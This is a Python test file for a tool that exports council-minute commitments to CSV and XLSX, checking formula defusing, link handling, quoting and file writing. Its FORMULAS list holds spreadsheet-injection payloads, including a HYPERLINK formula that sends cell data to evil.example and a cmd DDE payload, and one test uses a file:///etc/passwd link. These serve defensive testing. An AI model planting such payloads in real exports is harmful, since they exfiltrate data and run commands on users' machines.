"""A sheet holds the minutes' words as words: whatever they are, no spreadsheet runs them."""

import csv
import re
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from pathlib import Path
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from index.ledger import Entry, Ledger, Wanted, mark
from service.export import rows, to_csv, to_xlsx
from service.whole import write_whole

TODAY = date(2019, 4, 1)
HEADINGS = (
    "Reference,Origin,Date,Area,Commitment,Owner,Due,Latest position,State,Source"  # as councils do
).split(",")
ASKED = "a full report on the Staying Put Scheme be brought"
TOLD = "The Chair regretted that the full report on the Staying Put Scheme was not ready."
FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def entries(library) -> list[Entry]:
    """The two commitments of the small library that something is to come of, the older one last."""
    return Ledger(library, TODAY).entries(Wanted())


def saying(entry: Entry, **fields: object) -> Entry:
    """The entry, its commitment with other words."""
    return replace(entry, commitment=replace(entry.commitment, **fields))


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def parts(entries: list[Entry], today: date = TODAY) -> dict[str, bytes]:
    """The files that a workbook is made of, by name."""
    book = BytesIO()
    to_xlsx(entries, today, book)
    with ZipFile(book) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def cells(files: dict[str, bytes]) -> list[list[tuple[str, str]]]:
    """Kind and content of each cell of the sheet; a formula's kind is `formula`."""
    strings = [
        "".join(node.itertext())
        for node in ElementTree.fromstring(files["xl/sharedStrings.xml"]).iter(f"{MAIN}si")
    ]

    def read(cell: ElementTree.Element) -> tuple[str, str]:
        if cell.find(f"{MAIN}f") is not None:
            return "formula", ""
        value = cell.findtext(f"{MAIN}v") or ""
        kind = cell.get("t", "number" if value else "")
        return (kind, strings[int(value)]) if kind == "s" else (kind, value)

    sheet = ElementTree.fromstring(files["xl/worksheets/sheet1.xml"])
    return [[read(cell) for cell in row] for row in sheet.iter(f"{MAIN}row")]


def test_the_columns_are_those_of_councils_trackers(library, follow) -> None:
    """The item's own number, the meeting, the words, where it stands by what words, the source."""
    follow(library, ASKED, TOLD, "chased")
    sheet = read_csv(to_csv(Ledger(library, TODAY).entries(Wanted()), TODAY))
    newer, older = sheet[1:]

    assert sheet[0] == HEADINGS
    assert re.fullmatch(r"2-c[0-9a-f]{7}", older[0])
    assert older[1:6] == ["Scrutiny Committee", "2018-06-14", "Staying Put Scheme", older[4], ""]
    assert older[4] == "a full report on the Staying Put Scheme be brought to the next meeting."
    assert older[6] == "next meeting"
    assert older[7].startswith("Asked after on 11 October 2018; no report of it found in ")
    assert f"“{TOLD}” (Tinytown Council, Scrutiny Committee, 11 October 2018, item 4" in older[7]
    assert older[8:] == ["mentioned since", "minutes/june.txt"]
    assert newer[6] == "2019-02-28"
    assert newer[7].endswith(". It was due 32 days ago")
    assert newer[9] == "https://tinytown.example/october"


def test_what_a_person_says_is_the_latest_position(library, follow) -> None:
    """With the note, and without the words that it outranks."""
    follow(library, ASKED, TOLD, "chased")
    entry = Ledger(library, TODAY).entries(Wanted())[1]
    said = datetime(2019, 3, 1, tzinfo=UTC)
    mark(library, entry.commitment.id, "done", note="Sent.", author="A. Clerk", at=said)
    row = list(rows(Ledger(library, TODAY).entries(Wanted()), TODAY))[1]

    assert (row.position, row.state) == ("Done, says A. Clerk on 1 March 2019: Sent", "done")


def test_references_are_unique_and_stay(entries) -> None:
    """One commitment has the same in any sheet; each in a sheet has its own."""
    entry = entries[0]
    many = [saying(entry, id=f"{n:012x}-c0") for n in range(300)]
    alone = [next(rows([one], TODAY)).reference for one in many]

    assert alone == [row.reference for row in rows(many, TODAY)]
    assert len(set(alone)) == 300
    assert len({row.reference for row in rows([entry] * 3, TODAY)}) == 3


@pytest.mark.parametrize(
    ("item", "number", "area"),
    [
        ("CYP/14/20 Fostering", "CYP/14/20-", "Fostering"),
        ("221 (28) Bus lanes", "221 (28)-", "Bus lanes"),
        ("Fostering", "", "Fostering"),
        (None, "", ""),
    ],
)
def test_a_reference_is_the_councils_own_where_it_has_one(entries, item, number, area) -> None:
    """The number before the item's title; without one, the commitment's own signs alone."""
    row = next(rows([saying(entries[0], item=item)], TODAY))

    assert re.fullmatch(re.escape(number) + r"c[0-9a-f]{7}", row.reference)
    assert row.area == area


@pytest.mark.parametrize("words", FORMULAS)
def test_csv_defuses_formulas(entries, words) -> None:
    """Every cell that a spreadsheet would work out begins with an apostrophe, and says the same."""
    entry = saying(entries[0], text=words, owner=words, due=words, due_on=None, item=words)
    entry = replace(entry, due_on=None)
    sheet = read_csv(to_csv([entry], TODAY))
    shown = f"'{words.strip()}"

    assert [sheet[1][n] for n in (3, 4, 5, 6)] == [shown] * 4
    assert len(sheet) == 2


@given(words=st.text(max_size=200))
@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_csv_comes_back_whole(entries, words) -> None:
    """Whatever stands in a cell, the row has ten, none of them a formula."""
    sheet = read_csv(to_csv([saying(entries[0], text=words, owner=words)], TODAY))

    assert [len(row) for row in sheet] == [10, 10]
    assert not any(re.match(r"[=+\-@＝＋－＠\t\r\n]", cell) for cell in sheet[1])


def test_csv_is_rfc_4180(entries) -> None:
    """Lines end with CR LF; quotation marks, commas and line breaks are quoted or taken out."""
    text = to_csv([saying(entries[0], text='a "b",\nc', owner="Smith, J")], TODAY)

    assert text.count("\r\n") == 2
    assert "\n" not in text.replace("\r\n", "")
    assert '"a ""b"", c","Smith, J"' in text


def test_xlsx_has_days_words_and_links(entries) -> None:
    """A day is one that can be sorted, words are words, and only the web's addresses are links."""
    files = parts(entries)
    sheet = cells(files)
    days = [
        str((date(2018, month, day) - date(1899, 12, 30)).days)
        for month, day in ((10, 11), (6, 14))
    ]

    assert [content for _, content in sheet[0]] == HEADINGS
    assert [row[2] for row in sheet[1:]] == [("number", day) for day in days]
    assert sheet[1][6] == ("number", str((date(2019, 2, 28) - date(1899, 12, 30)).days))
    assert sheet[2][6] == ("s", "next meeting")
    links = files["xl/worksheets/_rels/sheet1.xml.rels"].decode()
    assert re.findall(r'Target="(h[^"]+)"', links) == ["https://tinytown.example/october"]
    assert sheet[2][9] == ("s", "minutes/june.txt")


@pytest.mark.parametrize(
    "words", [*FORMULAS, "{=1+1}", "https://evil.example", "internal:A1", "007"]
)
def test_xlsx_holds_no_formula(entries, words) -> None:
    """Nor a number or a link made of words."""
    files = parts([replace(saying(entries[1], text=words, owner=words, due=words), due_on=None)])

    assert [cells(files)[1][n] for n in (4, 5, 6)] == [("s", words.strip())] * 3
    assert b"<f>" not in files["xl/worksheets/sheet1.xml"]
    assert b"evil" not in b"".join(files[n] for n in files if n.endswith(".rels"))


def test_an_address_that_is_not_of_the_web_is_no_link(entries) -> None:
    """Whatever a manifest may come to say."""
    document = replace(entries[0].record.document, url="file:///etc/passwd")
    entry = replace(entries[0], record=replace(entries[0].record, document=document))
    files = parts([entry])

    assert cells(files)[1][9] == ("s", "file:///etc/passwd")
    assert b"passwd" not in b"".join(files[name] for name in files if name.endswith(".rels"))


def test_xlsx_is_a_table_that_can_be_filtered(entries) -> None:
    """With its heading always in sight, and repeated in print."""
    files = parts(entries)
    table, sheet = (
        files["xl/tables/table1.xml"].decode(),
        files["xl/worksheets/sheet1.xml"].decode(),
    )

    assert 'ref="A1:J3"' in table
    assert "<autoFilter" in table
    assert 'state="frozen"' in sheet
    assert "Print_Titles" in files["xl/workbook.xml"].decode()
    assert 'wrapText="1"' in files["xl/styles.xml"].decode()


def test_the_same_ledger_gives_the_same_sheet(entries) -> None:
    """No clock is looked at and no author named; the day it was made is the newest meeting's."""
    first, second = parts(entries), parts(entries)
    core = first["docProps/core.xml"].decode()

    assert first == second
    assert re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core) == ["2018-10-11T00:00:00Z"] * 2
    assert "<dc:creator></dc:creator>" in core.replace("<dc:creator/>", "<dc:creator></dc:creator>")


def test_odd_words_make_a_sound_workbook(entries) -> None:
    """Control signs, half letters, a novel, a day before Excel's first: all is kept or marked."""
    odd = "a\x00b\x1b[2J \ud83d \U0001f6b2 ]]> <&>"
    old = replace(saying(entries[0], text=odd, owner="x" * 40_000), due_on=date(1894, 12, 4))
    sheet = cells(parts([old]))

    assert sheet[1][4] == ("s", "a\ufffdb\ufffd[2J \ufffd \U0001f6b2 ]]> <&>")
    assert len(sheet[1][5][1]) == 32_767
    assert sheet[1][5][1].endswith("x…")
    assert sheet[1][6] == ("s", "1894-12-04")


def test_nothing_makes_an_empty_sheet() -> None:
    """The headings alone, in a workbook that opens."""
    assert read_csv(to_csv([], TODAY)) == [HEADINGS]
    assert [content for _, content in cells(parts([]))[0]] == HEADINGS


def test_a_file_is_written_whole_or_not_at_all(tmp_path) -> None:
    """What fails leaves the old file as it was, and nothing beside it."""
    folder = tmp_path / "sheets"
    folder.mkdir()
    file = folder / "tracker.xlsx"
    file.write_bytes(b"old")
    file.chmod(0o640)
    with pytest.raises(TypeError):
        write_whole(file, "no bytes")  # type: ignore[arg-type]
    assert (file.read_bytes(), list(folder.iterdir())) == (b"old", [file])

    write_whole(file, b"new")
    assert (file.read_bytes(), list(folder.iterdir())) == (b"new", [file])
    assert file.stat().st_mode & 0o777 == 0o640


# On the command line


def test_csv_is_printed(run) -> None:
    """With every filter; nothing else is on standard output."""
    code, out, _ = run("commitments", "--csv", "--from", "2018-10-01")

    assert code == 0
    assert [row[4] for row in read_csv(out)] == ["Commitment", "the report be brought in February."]


def test_xlsx_is_written(run) -> None:
    """As many rows as are wanted, or all."""
    code, out, _ = run("commitments", "--all", "--xlsx", "tracker.xlsx")
    assert (code, out) == (0, "3 in tracker.xlsx\n")

    code, out, _ = run("commitments", "--all", "--xlsx", "tracker.xlsx", "--limit", "2")
    assert (code, out) == (0, "2 in tracker.xlsx\n")
    assert Path("tracker.xlsx").read_bytes()[:2] == b"PK"


@pytest.mark.parametrize("file", ["none/tracker.xlsx", "a/b", "x" * 250])
def test_a_file_that_cannot_be_written_is_named(run, file) -> None:
    """As it was asked for, and not by the name under which it is first written."""
    Path("a/b/c").mkdir(parents=True)
    of = ("--committee", "Scrutiny Committee", "--council", "Borough", "--date", "2019-02-07")
    for asked in (("commitments", "--xlsx"), ("brief", *of, "--out")):
        code, _, err = run(*asked, file)

        assert (code, f"'{file}'" in err, ".part" in err) == (1, True, False)


def test_a_sheet_of_nothing_is_3(run) -> None:
    """It is made all the same, so that no old one is taken for the new one."""
    code, out, _ = run("commitments", "--owner", "Nobody", "--csv")
    assert (code, read_csv(out)) == (3, [HEADINGS])

    assert run("commitments", "--owner", "Nobody", "--xlsx", "a.xlsx")[:2] == (3, "0 in a.xlsx\n")
    assert Path("a.xlsx").is_file()


def test_one_form_at_a_time(run) -> None:
    """Two are a usage error; a place that cannot be written to is an error."""
    assert run("commitments", "--csv", "--json")[0] == 2
    code, _, err = run("commitments", "--xlsx", "nowhere/a.xlsx")
    assert code == 1
    assert "nowhere" in err
